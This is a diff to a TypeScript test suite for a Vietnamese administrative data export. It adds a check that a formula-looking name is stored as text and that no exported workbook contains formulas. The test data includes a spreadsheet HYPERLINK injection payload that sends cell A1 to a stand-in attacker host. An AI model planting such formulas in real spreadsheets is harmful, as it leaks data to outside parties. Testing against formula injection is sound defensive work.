@@ -48,6 +48,7 @@ function columns(sheet: ExcelJS.Worksheet): Map<string, number> {
   return out;
 }
 
+const HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';
 const two = (n: number): string => String(n).padStart(2, '0');
 const FIELD_HEADERS: Record<string, string> = {
   economy: 'Kinh tế', culture_society: 'Văn hóa - xã hội', defense_security: 'Quốc phòng - an ninh, dân tộc - tôn giáo', political_system: 'Xây dựng hệ thống chính trị',
@@ -81,6 +82,9 @@ describe('GET /api/export on the fixture province (hand-counted)', () => {
       ],
     });
     expect(plan.status).toBe(201);
+    // A hostile cell as a unit might send it: it must reach the spreadsheet as text.
+    await t.app.get(Database).db.updateTable('recognition').set({ model_name: HOSTILE })
+      .where('model_name', '=', 'Mô hình AB4').where('year', '=', 2026).execute();
     ({ response, files } = await download(t, `unit=${U.province}&year=2026&fromYear=2023`));
   }, 180_000);
   afterAll(async () => {
@@ -163,6 +167,18 @@ describe('GET /api/export on the fixture province (hand-counted)', () => {
     expect(png.signature).toBe(true);
     expect(png.width).toBeGreaterThanOrEqual(1920);
     expect(png.variance).toBeGreaterThan(100);
+  });
+
+  it('writes a formula-looking name from the data as text, and no formula anywhere', async () => {
+    const sheet = await openWorkbook(files.get(FILES.recognitions)!);
+    const row = rowWhere(sheet, 2, HOSTILE);
+    expect(row).toBeDefined();
+    expect(row!.getCell(2).type).toBe(3); // ValueType.String
+    expect(row!.getCell(2).numFmt).toBe('@');
+    for (const name of [FILES.registrations, FILES.recognitions, FILES.exemplars, FILES.quotas, FILES.submissions]) {
+      const xml = (await unzip(files.get(name)!)).get('xl/worksheets/sheet1.xml')!.toString('utf8');
+      expect(xml, name).not.toContain('<f>');
+    }
   });
 
   it('keeps Vietnamese text intact in every file (NFC, no mojibake)', async () => {
